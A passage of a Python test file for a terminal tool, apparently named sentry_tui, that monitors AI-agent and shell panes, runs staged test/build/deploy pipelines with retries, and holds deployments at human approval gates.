    s(HookEvent(None, "%1", "claude", "permission", {"message": "Claude needs permission"}))
    pane = s.state.panes[AGENT.key]
    assert (pane.state, pane.trust) == (PaneState.WAITING, Trust.HOOK)
    assert "Claude needs permission" in pane.reason
    s(HookEvent(None, "%1", "claude", "stop"))
    assert s.state.panes[AGENT.key].state is PaneState.DONE
    s(HookEvent(None, "%77", "claude", "stop"))
    assert "unknown pane" in s.state.notes[-1]


def test_default_policy_notifies_failed_panes_and_never_sends() -> None:
    from sentry_tui.config import bundled_policy_dir
    from sentry_tui.policy import load_policy

    s = Sim(load_policy([bundled_policy_dir() / "default.yaml"])).panes()
    s.shell(PaneState.FAILED)
    (note,) = s.of(Notify)
    assert note.event == "pane_failed" and note.urgent
    s(Start(request_id="x"))
    assert s.of(Report)[0].ok is False
    assert s.of(Send, s.all) == []


def test_unmatched_roles_are_warnings() -> None:
    s = Sim()
    s(PaneAdded(PaneInfo(AGENT, "app", "agent")))
    (warning,) = unmatched_roles(POLICY, s.state)
    assert warning.project == "app" and "shell" in warning.message


def test_persist_only_when_something_durable_changed() -> None:
    s = Sim()
    assert s(PaneAdded(PaneInfo(AGENT, "app", "agent"))) == []
    assert s(Tick()) == []
    assert s(Pause()) == [Persist()]
    assert s(StopCheck("x")) == []  # an action is not an event: recorded, not raised  # type: ignore[arg-type]


def test_hook_state_is_not_overridden_by_the_screen_for_a_moment() -> None:
    s = Sim().panes()
    s(HookEvent(AGENT, "%1", "claude", "permission"))
    s(StateChanged(AGENT, PaneState.IDLE, reason="prompt rule"), dt=1)
    assert s.state.panes[AGENT.key].state is PaneState.WAITING, "hook outranks the screen"
    s(StateChanged(AGENT, PaneState.BUSY), dt=1)
    assert s.state.panes[AGENT.key].state is PaneState.BUSY, "busy is always believed"
    s(HookEvent(AGENT, "%1", "claude", "stop"))
    s(StateChanged(AGENT, PaneState.IDLE), dt=10)
    assert s.state.panes[AGENT.key].state is PaneState.IDLE, "after the hold the screen counts"


def test_output_of_the_attempt_confirms_an_uncertain_send() -> None:
    s = Sim()
    at_test_sent(s)
    send_id = s.stage("test").send_id
    entry = JournalEntry(send_id, SHELL.key, cmd("test", "npm test"), "uncertain", s.now)
    s.state = replace(s.state, journal={send_id: entry})
    s.end("test", 0)
    assert s.state.journal == {}
    assert s.stage("test").status is StageStatus.SUCCEEDED


def test_demo_policy_moves_retries_and_stops_at_the_gate() -> None:
    from sentry_tui.config import bundled_policy_dir
    from sentry_tui.policy import load_policy

    demo = load_policy([bundled_policy_dir() / "demo.yaml"])
    s = Sim(demo)
    refs = {w: PaneRef(SERVER, f"%{n}") for n, w in enumerate(["agent", "shell", "prompt"], 1)}
    for w, ref in refs.items():
        s(PaneAdded(PaneInfo(ref, "demo", w)))
    sh = refs["shell"]
    s(MarkerSeen(refs["agent"], Marker("STATUS", {"stage": "code", "ok": True})))
    run_id = s.state.runs["demo"].run_id
    sent: list[str] = []

    def finish(stage: str, code: int) -> None:
        sent.extend(x.text for x in s.sends())
        for x in s.sends():
            s(SendResult(x.action_id, True))
        s(StateChanged(sh, PaneState.BUSY))
        s(MarkerSeen(sh, Marker("END", {"stage": stage, "exit": code, "run": run_id})))
        s(StateChanged(sh, PaneState.IDLE if code == 0 else PaneState.FAILED))

    finish("test", 1)
    finish("test", 0)
    finish("build", 0)
    run = s.state.runs["demo"]
    assert run.stage("deploy").status is StageStatus.WAITING_APPROVAL  # type: ignore[union-attr]
    wrap = f"{WRAP} --stage {{}} --project demo --run {run_id} -- sh "
    assert sent == [
        wrap.format("test") + '"$SENTRY_DEMO_DIR/test.sh"',
        wrap.format("test") + '"$SENTRY_DEMO_DIR/test.sh"',
        wrap.format("build") + '"$SENTRY_DEMO_DIR/build.sh"',
    ]
    (aid,) = [a for a in s.state.approvals if s.state.approvals[a].status == "pending"]
    s(Approve(approval_id=aid))
    assert [x.text for x in s.sends()] == [wrap.format("deploy") + '"$SENTRY_DEMO_DIR/deploy.sh"']


def test_active_checks_resume_after_a_restart() -> None:
    from sentry_tui.engine import active_checks

    s = Sim()
    at_deploy_awaiting(s)
    (started,) = [a for a in s.all if isinstance(a, StartCheck)]
    assert active_checks(s.state, POLICY) == [started]
    s(CheckUpdate(started.check_id, "completed", "success"))
    assert active_checks(s.state, POLICY) == []


def test_the_shell_echo_of_the_sent_command_is_not_output() -> None:
    policy = load_text(
        POLICY_TEXT.replace("fail: {regex: 'npm ERR!'}", "fail: {regex: 'wrap|npm'}")
    )
    s = Sim(policy)
    at_code(s)
    s.marker(AGENT, "STATUS", stage="code", ok=True)
    (send,) = s.sends()
    s.sent()
    half = len(send.text) // 2
    s(OutputLines(SHELL, (f"me@nas:~/app$ {send.text[:half]}", send.text[half:])))
    s(OutputLines(SHELL, (f"me@nas:~/app$ {send.text}",)))
    assert s.stage("test").status is StageStatus.RUNNING
    s(OutputLines(SHELL, ("npm warn deprecated",)))
    assert s.stage("test").status is StageStatus.RETRYING


def test_compound_run_is_wrapped_whole() -> None:
    from sentry_tui.engine import EngineConfig, wrapped_command
    from sentry_tui.model import Stage

    cfg = EngineConfig(wrapper="sentry-tui wrap")
    plain = wrapped_command(cfg, "p", Stage(name="t", pane="sh", run="npm test"), "r1")
    assert plain.endswith("-- npm test")
    compound = wrapped_command(
        cfg, "p", Stage(name="t", pane="sh", run="make && ./x | tee o"), "r1"
    )
    assert compound.endswith("-- sh -c 'make && ./x | tee o'")


def test_decided_approvals_are_pruned_but_pending_ones_kept() -> None:
    from sentry_tui.engine import MAX_DECIDED, _prune_decided
    from sentry_tui.model import Approval, Gate

    def approval(i: int, status: str) -> Approval:
        return Approval(
            f"a{i}",
            "p",
            "deploy",
            "r",
            Gate.BEFORE,
            float(i),
            status=status,
            decided_at=float(i) if status != "pending" else None,
        )  # type: ignore[arg-type]

    many = {f"a{i}": approval(i, "approved") for i in range(MAX_DECIDED + 20)}
    many["a999"] = approval(999, "pending")
    kept = _prune_decided(many)
    assert "a999" in kept
    assert len(kept) == MAX_DECIDED + 1
    assert "a0" not in kept and f"a{MAX_DECIDED + 19}" in kept
